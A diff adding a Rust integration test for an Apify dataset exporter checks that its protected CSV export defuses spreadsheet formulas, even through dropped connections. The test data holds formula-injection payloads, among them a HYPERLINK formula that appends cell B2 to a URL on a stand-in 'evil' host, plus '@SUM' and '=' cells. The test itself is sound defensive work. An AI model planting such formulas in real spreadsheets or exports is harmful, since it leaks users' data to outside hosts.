@@ -358,3 +358,99 @@ async fn a_dataset_deleted_during_an_export_is_reported_and_the_old_file_stays()
         b"the export of last week\n"
     );
 }
+
+/// A Store Actor's cells that a spreadsheet would run: the protected CSV export defuses each,
+/// through dropped connections too, and with the protection off the file is the API's, byte
+/// for byte.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_csv_export_defuses_spreadsheet_formulas_unless_asked_not_to() {
+    use greenroom_core::datasets::formulas::CsvDefuser;
+    let sandbox = Sandbox::start().await.unwrap();
+    let client = ApifyClient::builder()
+        .token(SANDBOX_TOKEN)
+        .base_url(sandbox.base_url())
+        .build();
+    let dataset = client
+        .datasets()
+        .get_or_create(Some("hostile"))
+        .await
+        .unwrap()
+        .id;
+    let items: Vec<serde_json::Value> = (0..4000)
+        .map(|n| {
+            serde_json::json!({
+                "n": n,
+                "link": format!("=HYPERLINK(\"https://evil/?{n}\"&B2,\"Open\")"),
+                "call": "@SUM(A1)",
+                "sign": if n % 2 == 0 { "-2+3" } else { "-3.5" },
+                "note": format!("\t=1\nline, with a comma {n}"),
+                "price": -(n as f64) / 4.0,
+            })
+        })
+        .collect();
+    for chunk in items.chunks(1000) {
+        client
+            .dataset(&dataset)
+            .push_items(&chunk.to_vec())
+            .await
+            .unwrap();
+    }
+    let session = common::full_session(&sandbox);
+    // Chosen columns keep every continuation's header row the same, so resuming can work.
+    let fields: Vec<String> = ["n", "link", "call", "sign", "note", "price"]
+        .map(String::from)
+        .into();
+    let plain = ExportOptions {
+        fields: fields.clone(),
+        protect_formulas: false,
+        ..Default::default()
+    };
+    let api = reference(&sandbox, &dataset, DownloadItemsFormat::Csv, &plain).await;
+    let mut expected = Vec::new();
+    let mut defuser = CsvDefuser::new(b',');
+    defuser.push(&api, &mut expected);
+    defuser.finish(&mut expected);
+    assert_ne!(expected, api, "the data has formulas to defuse");
+
+    let folder = tempfile::tempdir().unwrap();
+    let export = |options: ExportOptions, name: &'static str| {
+        let session = session.clone();
+        let dataset = dataset.clone();
+        let target = folder.path().join(name);
+        async move {
+            export_dataset(
+                &session,
+                &dataset,
+                ExportFormat::Csv,
+                &options,
+                &target,
+                &CancellationToken::new(),
+                |_| {},
+            )
+            .await
+            .unwrap();
+            std::fs::read(&target).unwrap()
+        }
+    };
+    assert!(
+        export(plain.clone(), "plain.csv").await == api,
+        "off: the API's file"
+    );
+    sandbox.set_faults(every_answer_breaks());
+    let protected = ExportOptions {
+        protect_formulas: true,
+        ..plain
+    };
+    let written = export(protected, "protected.csv").await;
+    assert!(
+        written == expected,
+        "{} bytes, {} expected",
+        written.len(),
+        expected.len()
+    );
+    let text = String::from_utf8(written).unwrap();
+    assert!(text.contains("\"'=HYPERLINK(\"\"https://evil/?7\"\"&B2,\"\"Open\"\")\""));
+    assert!(text.contains(",'@SUM(A1),") || text.contains(",\"'@SUM(A1)\","));
+    assert!(text.contains("-3.5"), "numbers stay numbers");
+    assert!(!text.contains(",=") && !text.contains(",\"=") && !text.contains(",@"));
+}
